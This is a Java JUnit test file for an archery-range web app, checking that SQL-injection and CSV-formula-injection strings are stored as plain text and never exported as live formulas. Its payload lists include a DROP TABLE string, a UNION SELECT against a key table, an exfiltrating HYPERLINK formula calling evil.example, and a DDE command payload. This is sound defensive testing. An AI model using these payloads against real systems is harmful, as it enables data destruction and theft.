package castwell.web;

import static org.assertj.core.api.Assertions.assertThat;

import castwell.web.cli.Castwell;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.StreamSupport;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/** SQL, and what a spreadsheet would run, in every text there is: kept as it is, and harmless. */
@Tag("slow")
@Timeout(300)
class HostileTextTest {
  private static final JsonMapper JSON = JsonMapper.builder().build();

  private static final List<String> SQL =
      List.of(
          "x'); DROP TABLE bow; --",
          "x' OR '1'='1",
          "\"; DELETE FROM edge; --",
          "1 UNION SELECT hash FROM access_key",
          "x\\'; PRAGMA user_version = 99; --",
          "?1 :name $name @name %s {0}");

  @TempDir Path folder;

  private static ObjectNode object() {
    return JSON.createObjectNode();
  }

  private static ObjectNode bow(String name, String text) {
    return object()
        .put("name", name)
        .put("draw_weight_lb", 50)
        .put("draw_length_in", 27)
        .put("done", text)
        .put("wood", text);
  }

  private static String encoded(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
  }

  private static JsonNode named(Served served, String path, String name) {
    return StreamSupport.stream(Asked.get(served.at(path)).json().spliterator(), false)
        .filter(thing -> thing.path("name").asText().equals(name))
        .findFirst()
        .orElseThrow();
  }

  private static int post(Served served, String method, String path, ObjectNode body) {
    return Asked.send(method, served.at(path), body.toString()).status();
  }

  @Test
  void sqlInAnyTextIsTextAndTheTablesStayAsTheyWere() throws Exception {
    Recordings.replayInto(folder);
    String tables;
    try (Served served = Served.withoutBoard(folder, Recordings.STATION)) {
      tables = tables();
      JsonNode range = Asked.get(served.at("/api/range")).json();
      String shot = "/api/shots/" + range.path("last").path("shot_id").asText();
      for (String sql : SQL) {
        assertThat(post(served, "POST", "/api/bows", bow(sql, sql))).isEqualTo(201);
        ObjectNode arrow = object().put("name", sql).put("mass_gr", 500);
        arrow.put("point", sql).put("note", sql);
        assertThat(post(served, "POST", "/api/arrows", arrow)).isEqualTo(201);
        arrow.remove("name");
        assertThat(post(served, "PUT", "/api/arrows/" + encoded(sql), arrow)).isEqualTo(200);
        ObjectNode tags = object().put("bow", sql).put("arrow", sql);
        assertThat(post(served, "POST", shot + "/tags", tags.put("why", sql))).isEqualTo(200);
        tags.remove("why");
        tags.put("station", Recordings.STATION);
        assertThat(post(served, "PUT", "/api/tags", tags)).isEqualTo(200);
        ObjectNode plan = object().put("station", Recordings.STATION).put("name", sql);
        plan.putArray("turns").addObject().put("bow", sql).put("arrow", sql);
        Asked planned = Asked.send("POST", served.at("/api/plans"), plan.toString());
        assertThat(planned.json().path("name").asText()).isEqualTo(sql);
        ObjectNode decision = object().put("counts", false).put("reason", sql);
        assertThat(post(served, "POST", shot + "/decision", decision)).isEqualTo(200);
        ObjectNode sheet = object().put("what", "arrows").put("source", sql);
        sheet.put("csv", "arrow,mass_gr\n\"%s i\",500\n".formatted(sql.replace("\"", "\"\"")));
        sheet.putObject("map").put(sql, "note");
        assertThat(post(served, "POST", "/api/import", sheet)).isIn(201, 400);

        assertThat(named(served, "/api/bows", sql).path("done").asText()).isEqualTo(sql);
        assertThat(named(served, "/api/arrows", sql).path("note").asText()).isEqualTo(sql);
        JsonNode told = Asked.get(served.at(shot)).json();
        assertThat(told.at("/shot/bow").asText()).isEqualTo(sql);
        assertThat(told.at("/shot/arrow").asText()).isEqualTo(sql);
        assertThat(last(told.path("decisions")).path("reason").asText()).isEqualTo(sql);
        assertThat(last(told.path("tags")).path("why").asText()).isEqualTo(sql);
        assertNothingIsFoundBy(served, encoded(sql + " and more"));
      }
    }
    assertThat(tables()).isEqualTo(tables);
  }

  private static JsonNode last(JsonNode list) {
    return list.get(list.size() - 1);
  }

  /** Names in paths and queries that there are none of. */
  private static void assertNothingIsFoundBy(Served served, String name) {
    for (String path :
        List.of(
            "/api/range?station=" + name,
            "/api/live?after=" + name,
            "/api/shots/" + name,
            "/api/bows/" + name + "/force-draw",
            "/api/plans/" + name,
            "/api/reports/bow/" + name,
            "/api/reports/plan/" + name,
            "/api/reports/rework/" + name + "?before=" + name + "&after=" + name,
            "/api/reports/session/" + name)) {
      assertThat(Asked.get(served.at(path)).status()).as(path).isIn(400, 404);
    }
    assertThat(Asked.get(served.at("/api/sessions/" + name + "/shots")).json()).isEmpty();
    assertThat(Asked.get(served.at("/api/stations/" + name + "/calibrations")).json()).isEmpty();
    ObjectNode calibration = object().put("spacing_mm", 600);
    assertThat(post(served, "POST", "/api/stations/" + name + "/calibrations", calibration))
        .isEqualTo(404);
    assertThat(post(served, "POST", "/api/sessions", object().put("station", name))).isEqualTo(404);
  }

  private String tables() throws SQLException {
    try (Connection db =
            DriverManager.getConnection("jdbc:sqlite:" + folder.resolve("castwell.db"));
        ResultSet all =
            db.createStatement()
                .executeQuery(
                    "SELECT group_concat(sql, ';') || (SELECT user_version FROM pragma_user_version)"
                        + " || (SELECT integrity_check FROM pragma_integrity_check)"
                        + " || (SELECT count(*) FROM edge) FROM sqlite_master")) {
      all.next();
      return all.getString(1);
    }
  }

  /** OWASP, "CSV Injection". */
  private static final List<String> FORMULAS =
      List.of(
          "=1+1",
          "+1+1",
          "-1+1",
          "@SUM(1)",
          "=HYPERLINK(\"http://evil.example/?\"&A1,\"look\")",
          "=cmd|' /C calc'!A0",
          "＝1+1",
          "'=1+1",
          "''-1",
          "'plain");

  @Test
  void noExportedTextIsAFormulaAndAnImportReadsEachBackAsItWas() throws IOException {
    Path first = folder.resolve("first");
    List<String> shots = new ArrayList<>(List.of("bow,arrow,speed_fps,fired_at,note"));
    try (Served served = Served.withoutBoard(first, "range")) {
      for (String formula : FORMULAS) {
        ObjectNode bow = bow(formula, formula).put("state_on", "2026-04-01");
        assertThat(post(served, "POST", "/api/bows", bow.put("string_follow_in", -0.5)))
            .isEqualTo(201);
        ObjectNode arrow = object().put("name", formula).put("mass_gr", 500);
        assertThat(
                post(
                    served,
                    "POST",
                    "/api/arrows",
                    arrow.put("point", formula).put("note", formula)))
            .isEqualTo(201);
        // As a spreadsheet may hold it: an apostrophe more is what it shows as text.
        String cell = "\"'" + formula.replace("\"", "\"\"") + "\"";
        shots.add("%s,%s,150,2026-05-04T10:%02d,%s".formatted(cell, cell, shots.size(), cell));
      }
      ObjectNode sheet = object().put("what", "shots");
      sheet.put("csv", String.join("\n", shots).replace("\"''plain\"", "'plain"));
      sheet.put("csv", sheet.path("csv").asText().replace("\"''plain", "\"'plain"));
      Asked taken = Asked.send("POST", served.at("/api/import"), sheet.toString());
      assertThat(taken.status()).as("%s", taken.json()).isEqualTo(201);
    }
    Path second = folder.resolve("second");
    for (String what : List.of("bows", "arrows", "shots")) {
      Path csv = exported(first, what, "csv");
      assertNoFormulas(csv);
      assertThat(
              Castwell.run("import", "--data", second.toString(), "--what", what, csv.toString()))
          .isZero();
      if (!what.equals("shots")) { // whose ids are their folder's own
        assertThat(exported(second, what, "csv")).hasSameTextualContentAs(csv);
      }
    }
    JsonNode bows = JSON.readTree(exported(second, "bows", "json").toFile());
    assertThat(bows).extracting(bow -> bow.path("bow").asText()).isEqualTo(FORMULAS);
    assertThat(bows).extracting(bow -> bow.path("done").asText()).isEqualTo(FORMULAS);
    assertThat(bows).allMatch(bow -> bow.path("string_follow_in").asDouble() == -0.5);
    JsonNode shot = JSON.readTree(exported(second, "shots", "json").toFile());
    assertThat(shot).extracting(s -> s.path("bow").asText()).isEqualTo(FORMULAS);
    assertThat(shot).extracting(s -> s.path("note").asText()).isEqualTo(FORMULAS);
  }

  @Test
  void noReportsTableHasAFormulaEither() throws IOException {
    Path data = folder.resolve("data");
    try (Served served = Served.withoutBoard(data, "range")) {
      for (String name : List.of("=1+1", "-2")) {
        post(served, "POST", "/api/bows", bow(name, "").put("state_on", "2026-04-01"));
        post(served, "POST", "/api/arrows", object().put("name", name).put("mass_gr", 500));
        ObjectNode sheet = object().put("what", "shots");
        sheet.put("csv", "bow,arrow,speed_fps\n'%1$s,'%1$s,150\n'%1$s,'%1$s,151\n".formatted(name));
        assertThat(post(served, "POST", "/api/import", sheet)).isEqualTo(201);
      }
    }
    for (String[] report : new String[][] {{"ranking"}, {"session"}, {"bow", "=1+1"}}) {
      Path out = folder.resolve("report.csv");
      List<String> all = new ArrayList<>(List.of("report"));
      all.addAll(List.of(report));
      all.addAll(List.of("--data", data.toString(), "--format", "csv", "--out", out.toString()));
      assertThat(Castwell.run(all.toArray(String[]::new))).isZero();
      assertNoFormulas(out);
    }
  }

  private Path exported(Path data, String what, String format) {
    Path out = folder.resolve(data.getFileName() + "-" + what + "." + format);
    int code =
        Castwell.run(
            "export",
            "--data",
            data.toString(),
            "--what",
            what,
            "--format",
            format,
            "--out",
            out.toString());
    assertThat(code).isZero();
    return out;
  }

  /** A number may be below 0; nothing else may begin as a formula does. */
  private static void assertNoFormulas(Path csv) throws IOException {
    try (CSVParser parser = CSVParser.parse(Files.readString(csv), CSVFormat.RFC4180)) {
      for (CSVRecord row : parser) {
        for (String cell : row) {
          boolean number = cell.matches("-?\\d+(\\.\\d+)?");
          assertThat(number || !cell.matches("(?s)[=+\\-@\\t\\r\\n＝＋－＠].*")).as(cell).isTrue();
        }
      }
    }
  }
}
